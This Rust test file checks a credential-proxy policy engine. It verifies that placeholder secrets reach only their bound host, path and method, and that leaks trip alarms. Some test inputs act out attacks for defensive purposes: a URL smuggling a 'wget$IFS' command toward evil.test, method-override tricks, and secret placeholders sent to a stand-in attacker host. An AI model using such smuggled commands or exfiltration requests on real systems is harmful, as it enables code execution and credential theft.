#![allow(clippy::unwrap_used, reason = "tests")]

use ed25519_dalek::{Signer as _, SigningKey};

use super::*;
use crate::ask::{Named, Terms, Way};
use crate::destination::{Host, HostPattern, Methods};
use crate::name::BindingId;
use crate::path::{PathPattern, Paths};
use crate::policy_doc::PolicyContent;
use crate::record::AllowedHost;
use crate::{Binding, BindingDraft};

const PLACEHOLDER: &str = "sk_withheldKAAAAAAAAAAAAAAAAAAAAAAAA";
const OTHERS: &str = "sk_withheldKBBBBBBBBBBBBBBBBBBBBBBBB";

fn secret(name: &str) -> SecretName {
    SecretName::parse(name).unwrap()
}

fn binding(id: u8, name: &str, host: &str, place: &str) -> Binding {
    Binding {
        id: BindingId::from_bytes([id; 6]),
        environment: Environment::dev(),
        secret: secret(name),
        terms: BindingDraft {
            host: HostPattern::parse(host).unwrap(),
            port: 443,
            paths: Paths::new(vec![PathPattern::parse("/v1").unwrap()]),
            methods: Methods::parse(["GET"]).unwrap(),
            place: place.parse().unwrap(),
            format: None,
            vars: Vec::new(),
            prefix: None,
            auto: false,
            private: false,
            foreign: false,
            ca: None,
        },
    }
}

fn allowed(host: &str, foreign: bool) -> AllowedHost {
    AllowedHost {
        host: HostPattern::parse(host).unwrap(),
        port: None,
        foreign,
    }
}

struct Table {
    content: PolicyContent,
    record: AgentRecord,
}

impl Table {
    fn new(bindings: Vec<Binding>) -> Self {
        let mut content = PolicyContent::first();
        content.bindings = bindings;
        content.allowed = vec![allowed("pkg.test", false), allowed("open.test", true)];
        Self {
            content,
            record: AgentRecord::local(),
        }
    }

    fn decide(&self, ask: Ask) -> Decision {
        let key = SigningKey::from_bytes(&[5; 32]);
        let json = self.content.to_json().unwrap();
        let signature = key.sign(&PolicyContent::signed_message(&json));
        let file = PolicyContent::file(&json, &signature.to_bytes());
        let policy = Policy::verify(&file, &key.verifying_key().to_bytes(), 0).unwrap();
        let mut placeholders = Placeholders::default();
        placeholders.insert(secret("K"), PLACEHOLDER.to_owned());
        let view = View {
            record: &self.record,
            placeholders: &placeholders,
            elsewhere: &|text| text.contains(OTHERS),
            known: &|name| ["K", "UNBOUND", "OTHER"].contains(&name.as_str()),
        };
        decide(&view, &policy, ask, RequestId::from_bytes([1; 16]))
    }

    /// The code of a refusal, `permit:SECRETS` or `pass:WHY`.
    fn says(&self, ask: Ask) -> String {
        match self.decide(ask) {
            Decision::Permit(permit) => {
                let names: Vec<_> = permit
                    .uses()
                    .iter()
                    .map(|one| one.binding.secret.to_string())
                    .collect();
                format!("permit:{}", names.join(","))
            }
            Decision::Pass(pass) => format!("pass:{}", pass.why().as_str()),
            Decision::Refuse(refused) => refused.refusal.code.to_string(),
        }
    }
}

struct Request {
    method: &'static str,
    url: String,
    fields: Vec<(&'static str, String)>,
    named: Vec<Named>,
}

fn get(url: &str) -> Request {
    Request {
        method: "GET",
        url: url.to_owned(),
        fields: Vec::new(),
        named: Vec::new(),
    }
}

impl Request {
    fn field(mut self, name: &'static str, value: &str) -> Self {
        self.fields.push((name, value.to_owned()));
        self
    }

    fn names(mut self, name: &str, place: Option<&str>) -> Self {
        let place = place.map(|place| place.parse().unwrap());
        self.named.push(Named {
            secret: secret(name),
            place,
        });
        self
    }

    fn method(mut self, method: &'static str) -> Self {
        self.method = method;
        self
    }

    fn ask(self) -> Ask {
        let mut request = http::Request::builder()
            .method(self.method)
            .uri("/call")
            .header("host", "127.0.0.1");
        for (name, value) in self.fields {
            request = request.header(name, value);
        }
        let terms = Terms {
            way: Way::Call,
            tunnel: None,
            target: Some(self.url),
            named: self.named,
        };
        Ask::read(request.body(()).unwrap().into_parts().0, terms).unwrap()
    }
}

fn bearer() -> String {
    format!("Bearer {PLACEHOLDER}")
}

#[test]
fn a_named_secret_goes_where_it_is_bound_and_nowhere_else() {
    let table = Table::new(vec![
        binding(1, "K", "api.test", "bearer"),
        binding(2, "OTHER", "other.test", "bearer"),
    ]);
    for (request, said) in [
        (get("https://api.test/v1/x").names("K", None), "permit:K"),
        (
            get("https://api.test/v1/x").names("K", Some("bearer")),
            "permit:K",
        ),
        (
            get("https://api.test/v1/x").names("K", Some("header:X-Key")),
            "binding_violation",
        ),
        (
            get("https://api.test/v1/x").names("K", None).method("POST"),
            "binding_violation",
        ),
        (
            get("https://api.test/v2").names("K", None),
            "binding_violation",
        ),
        (
            get("https://api.test/v1beta").names("K", None),
            "binding_violation",
        ),
        (
            get("https://api.test:8443/v1").names("K", None),
            "binding_violation",
        ),
        (
            get("https://other.test/v1").names("K", None),
            "binding_violation",
        ),
        (
            get("https://evil.test/v1").names("K", None),
            "binding_violation",
        ),
        (
            get("http://api.test/v1").names("K", None),
            "cleartext_refused",
        ),
        (
            get("https://api.test/v1").names("UNBOUND", None),
            "no_binding",
        ),
        (
            get("https://api.test/v1").names("NOWHERE", None),
            "not_found",
        ),
        (
            get("https://203.0.113.7/v1").names("K", None),
            "binding_violation",
        ),
    ] {
        let shown = format!("{} {} {:?}", request.method, request.url, request.named);
        assert_eq!(table.says(request.ask()), said, "{shown}");
    }
}

#[test]
fn a_name_outside_the_record_does_not_exist() {
    let mut table = Table::new(vec![
        binding(1, "K", "api.test", "bearer"),
        binding(2, "OTHER", "other.test", "bearer"),
    ]);
    table.record.grants = vec![crate::record::NameGlob::parse("OTHER").unwrap()];
    assert_eq!(
        table.says(get("https://other.test/v1").names("OTHER", None).ask()),
        "permit:OTHER"
    );
    assert_eq!(
        table.says(get("https://api.test/v1").names("UNBOUND", None).ask()),
        "not_found"
    );
    assert_eq!(
        table.says(get("https://api.test/v1").names("NOWHERE", None).ask()),
        "not_found"
    );
    // Its placeholder is still in the session, so it was granted once.
    assert_eq!(
        table.says(get("https://api.test/v1").names("K", None).ask()),
        "no_grant"
    );
    assert_eq!(table.says(get("https://api.test/v1").ask()), "host_denied");
}

#[test]
fn p13_x01_a_placeholder_works_at_its_place_and_is_a_tripwire_elsewhere() {
    let table = Table::new(vec![
        binding(1, "K", "api.test", "bearer"),
        binding(2, "OTHER", "other.test", "query:key"),
    ]);
    // printf 'user:sk_withheldKAAAAAAAAAAAAAAAAAAAAAAAA' | base64
    let basic = "Basic dXNlcjpza193aXRoaGVsZEtBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUE=";
    for (request, said) in [
        (
            get("https://api.test/v1").field("authorization", &bearer()),
            "permit:K",
        ),
        (
            get("https://api.test/v1").field("authorization", basic),
            "permit:K",
        ),
        (
            get("https://api.test/v1")
                .field("authorization", &bearer())
                .names("K", None),
            "permit:K",
        ),
        (
            get("https://api.test/v1").field("x-note", PLACEHOLDER),
            "binding_violation",
        ),
        (
            get(&format!("https://api.test/v1/{PLACEHOLDER}")),
            "binding_violation",
        ),
        (
            get(&format!("https://api.test/v1?key={PLACEHOLDER}")),
            "binding_violation",
        ),
        (
            get("http://api.test/v1").field("authorization", &bearer()),
            "cleartext_refused",
        ),
        (
            get("https://api.test/v2").field("authorization", &bearer()),
            "binding_violation",
        ),
        (
            get("https://other.test/v1").field("authorization", &bearer()),
            "tripwire",
        ),
        (
            get("https://evil.test/v1").field("authorization", &bearer()),
            "tripwire",
        ),
        (
            get("https://pkg.test/v1").field("cookie", &format!("a={PLACEHOLDER}")),
            "tripwire",
        ),
        (
            get("https://open.test/v1").field("authorization", basic),
            "tripwire",
        ),
        (get(&format!("https://evil.test/{PLACEHOLDER}")), "tripwire"),
        (
            get(&format!("https://evil.test/?q={PLACEHOLDER}")),
            "tripwire",
        ),
        (
            get("https://api.test/v1").field("authorization", &format!("Bearer {OTHERS}")),
            "tripwire",
        ),
        (
            get("https://pkg.test/v1").field("x-note", OTHERS),
            "tripwire",
        ),
    ] {
        let shown = format!("{} {:?}", request.url, request.fields);
        assert_eq!(table.says(request.ask()), said, "{shown}");
    }
}

#[test]
fn p06_a_client_brings_no_credential_of_its_own() {
    let table = Table::new(vec![
        binding(1, "K", "api.test", "bearer"),
        binding(2, "OTHER", "other.test", "query:key"),
    ]);
    for (request, said) in [
        (get("https://api.test/v1"), "pass:named_only"),
        (
            get("https://api.test/v1").field("authorization", "Bearer sk_own"),
            "foreign_credential",
        ),
        (
            get("https://api.test/v1")
                .names("K", None)
                .field("authorization", "Bearer sk_own"),
            "foreign_credential",
        ),
        (
            get("https://api.test/v1")
                .names("K", None)
                .field("x-api-key", "own"),
            "foreign_credential",
        ),
        (
            get("https://api.test/v1")
                .names("K", None)
                .field("cookie", "a=b"),
            "foreign_credential",
        ),
        (
            get("https://api.test/v1")
                .names("K", None)
                .field("stripe-account", "acct_1"),
            "foreign_credential",
        ),
        (
            get("https://api.test/v1?access_token=own").names("K", None),
            "foreign_credential",
        ),
        (
            get("https://other.test/v1?key=own").names("OTHER", None),
            "foreign_credential",
        ),
        (
            get("https://other.test/v1?page=2").names("OTHER", None),
            "permit:OTHER",
        ),
        (
            get("https://api.test/v1")
                .field("authorization", &bearer())
                .field("authorization", "Bearer sk_own"),
            "foreign_credential",
        ),
        (get("https://pkg.test/x"), "pass:no_binding"),
        (
            get("https://pkg.test/x").field("authorization", "Bearer sk_own"),
            "foreign_credential",
        ),
        (
            get("https://open.test/x").field("authorization", "Bearer sk_own"),
            "pass:no_binding",
        ),
        (get("http://pkg.test/x"), "pass:no_binding"),
        (get("https://evil.test/x"), "host_denied"),
        (get("https://pkg.test:8080/x"), "host_denied"),
        (get("http://api.test/v1"), "cleartext_refused"),
    ] {
        let shown = format!("{} {:?} {:?}", request.url, request.fields, request.named);
        assert_eq!(table.says(request.ask()), said, "{shown}");
    }
}

#[test]
fn x19_only_automatic_bindings_need_no_name_and_never_for_a_page() {
    let mut auto = binding(1, "K", "api.test", "bearer");
    auto.terms.auto = true;
    let table = Table::new(vec![auto.clone()]);
    assert_eq!(table.says(get("https://api.test/v1").ask()), "permit:K");
    assert_eq!(
        table.says(
            get("https://api.test/v1")
                .field("origin", "https://evil.test")
                .ask()
        ),
        "pass:named_only"
    );
    assert_eq!(
        table.says(
            get("https://api.test/v1")
                .field("sec-fetch-mode", "cors")
                .ask()
        ),
        "pass:named_only"
    );
    let mut other = auto.clone();
    other.id = BindingId::from_bytes([9; 6]);
    other.secret = secret("OTHER");
    let table = Table::new(vec![auto.clone(), other.clone()]);
    assert_eq!(
        table.says(get("https://api.test/v1").ask()),
        "ambiguous_secret"
    );
    // The longer path is the more specific one.
    other.terms.paths = Paths::new(vec![PathPattern::parse("/v1/x").unwrap()]);
    let table = Table::new(vec![auto.clone(), other.clone()]);
    assert_eq!(
        table.says(get("https://api.test/v1/x").ask()),
        "permit:OTHER"
    );
    // Two places, two secrets.
    other.terms.place = "header:X-Second".parse().unwrap();
    let table = Table::new(vec![auto, other]);
    assert_eq!(
        table.says(get("https://api.test/v1/x").ask()),
        "permit:OTHER,K"
    );
}

#[test]
fn h22_what_overrides_the_request_is_refused_on_a_bound_host() {
    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
    assert_eq!(
        table.says(
            get("https://api.test/v1?_method=DELETE")
                .names("K", None)
                .ask()
        ),
        "binding_violation"
    );
    assert_eq!(
        table.says(
            get("https://api.test/v1")
                .names("K", None)
                .field("upgrade", "websocket")
                .ask()
        ),
        "binding_violation"
    );
    assert_eq!(
        table.says(get("https://pkg.test/v1").field("upgrade", "h2c").ask()),
        "pass:no_binding"
    );
}

#[test]
fn h22_a_method_hidden_behind_a_semicolon_is_found() {
    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
    assert_eq!(
        table.says(
            get("https://api.test/v1?a=1;_method=DELETE")
                .names("K", None)
                .ask()
        ),
        "binding_violation"
    );
}

#[test]
fn a_head_full_of_marks_is_refused() {
    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
    let query = vec!["a=withheld"; 65].join("&");
    assert_eq!(
        table.says(get(&format!("https://api.test/v1?{query}")).ask()),
        "ambiguous_request"
    );
}

#[test]
fn a_hint_holds_nothing_that_a_shell_would_run() {
    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
    let ask = get("https://api.test/v2/x;wget$IFS'evil.test'")
        .names("K", None)
        .ask();
    let Decision::Refuse(refused) = table.decide(ask) else {
        panic!("it passes");
    };
    assert_eq!(
        refused.refusal.hint.as_str(),
        "see which rule: withheld why --last"
    );
}

#[test]
fn a_host_with_a_binding_is_washed_also_without_a_credential() {
    let mut table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
    table.content.allowed.push(allowed("api.test", false));
    let washed = |table: &Table, url: &str| match table.decide(get(url).ask()) {
        Decision::Pass(pass) => (pass.washed(), pass.why(), pass.binding().is_some()),
        _ => panic!("{url} does not pass"),
    };
    assert_eq!(
        washed(&table, "https://api.test/v1"),
        (true, Without::NamedOnly, true)
    );
    assert_eq!(
        washed(&table, "https://pkg.test/v1"),
        (false, Without::NoBinding, false)
    );
    table.record.grants.clear();
    assert_eq!(
        washed(&table, "https://api.test/v1"),
        (true, Without::NotGranted, false)
    );
}

#[test]
fn a_refusal_says_what_is_bound_and_what_to_type() {
    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
    let Decision::Refuse(refused) = table.decide(
        get("https://api.test/v1")
            .names("K", None)
            .method("POST")
            .ask(),
    ) else {
        panic!("it passes");
    };
    let json = serde_json::to_value(&refused.refusal).unwrap();
    assert_eq!(json["message"], "`K` is not bound for POST on `api.test`");
    assert_eq!(
        json["hint"],
        "see which rule: withheld why POST https://api.test/v1 --secret K"
    );
    assert_eq!(
        json["next"],
        serde_json::json!([{"who": "agent", "argv":
            ["withheld", "why", "POST", "https://api.test/v1", "--secret", "K"]}])
    );
    assert_eq!(json["retry"], "after_owner");
    assert_eq!(json["facts"]["bound"], serde_json::json!(["GET /v1/*"]));
    assert_eq!(
        json["facts"]["rule"],
        BindingId::from_bytes([1; 6]).to_string()
    );
    assert!(refused.matched && refused.secrets == [secret("K")]);
    assert_eq!(Host::parse("api.test").unwrap(), *refused.ask.host());
}

#[test]
fn a_violation_names_the_part_that_does_not_fit() {
    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
    let said = |asked: Ask| match table.decide(asked) {
        Decision::Refuse(refused) => refused.refusal.to_string(),
        _ => panic!("it passes"),
    };
    let named = |url: &str| get(url).names("K", None);
    for (asked, message) in [
        (named("https://other.test/v1"), "not bound to `other.test`"),
        (
            named("https://api.test:8443/v1"),
            "not bound to port 8443 of `api.test`",
        ),
        (
            named("https://api.test/v2"),
            "not bound for this path on `api.test`",
        ),
        (
            named("https://api.test/v2").method("POST"),
            "not bound for POST on `api.test`",
        ),
    ] {
        let said = said(asked.ask());
        assert!(
            said.starts_with(&format!("error: `K` is {message}\n")),
            "{said}"
        );
        assert!(said.ends_with(" --secret K"), "{said}");
    }
    assert_eq!(
        said(get("https://api.test/v1").names("K", Some("query:k")).ask()),
        "error: `K` is not bound at this place on `api.test`\n  hint: leave the place out, or name the bound one: bearer"
    );
    assert_eq!(
        said(named("http://api.test:8080/v1").ask()),
        "error: `K` is bound to `api.test` over TLS only\n  hint: use https://api.test:8080/v1"
    );
    assert_eq!(
        said(named("http://api.test/v1").ask()),
        "error: `K` is bound to `api.test` over TLS only\n  hint: use https://api.test/v1"
    );
}

#[test]
fn the_facts_of_a_violation_are_those_of_the_host_that_was_asked_for() {
    let to = |id, host, path: &str| {
        let mut binding = binding(id, "K", host, "bearer");
        binding.terms.paths = Paths::new(vec![PathPattern::parse(path).unwrap()]);
        binding
    };
    let table = Table::new(vec![
        to(1, "1.2.3.4", "/else"),
        to(2, "api.test", "/v1"),
        to(3, "api.test", "/b"),
        to(4, "api.test", "/b"),
    ]);
    let facts = |url: &str| match table.decide(get(url).names("K", None).ask()) {
        Decision::Refuse(refused) => serde_json::to_value(&refused.refusal.facts).unwrap(),
        _ => panic!("it passes"),
    };
    let rule = |id| serde_json::json!(BindingId::from_bytes([id; 6]).to_string());
    let path = facts("https://api.test/v2/x");
    assert_eq!(path["bound"], serde_json::json!(["GET /b/*", "GET /v1/*"]));
    assert_eq!(path["rule"], rule(2));
    let port = facts("https://api.test:8443/v1");
    assert_eq!((port.get("bound"), &port["rule"]), (None, &rule(2)));
    let host = facts("https://evil.test/else");
    assert_eq!((host.get("bound"), host.get("rule")), (None, None));
}
